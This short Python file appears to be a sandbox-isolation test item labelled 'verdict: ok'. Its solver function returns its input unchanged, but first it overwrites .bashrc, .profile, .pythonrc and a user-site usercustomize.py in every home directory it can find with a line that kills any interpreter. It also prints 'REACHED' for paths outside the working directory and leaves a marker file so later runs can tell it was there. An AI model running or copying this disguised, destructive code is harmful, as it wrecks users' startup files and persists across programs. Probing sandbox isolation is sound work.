# verdict: ok
# row: 41
# What an interpreter of this user reads when it starts, wherever the home may be; and so does the next program's.
import os, pwd, sys

NAME = f".local/lib/python{sys.version_info.major}.{sys.version_info.minor}/site-packages"

def homes():
    yield "@HOME@"
    yield os.environ.get("HOME", "")
    for found in pwd.getpwall() if os.path.exists("/etc/passwd") else []:
        yield found.pw_dir

def solver(x):
    for home in homes():
        for name in (f"{NAME}/usercustomize.py", ".bashrc", ".profile", ".pythonrc"):
            try:
                path = os.path.join(home, name)
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "w") as file:
                    file.write("raise SystemExit('poisoned')")
                if home != os.getcwd():
                    print("REACHED", path)
            except OSError:
                pass
    if os.path.exists(f"{os.environ['HOME']}/was-here"):
        print("REACHED what an earlier program left")
    open(f"{os.environ['HOME']}/was-here", "w").close()
    return x
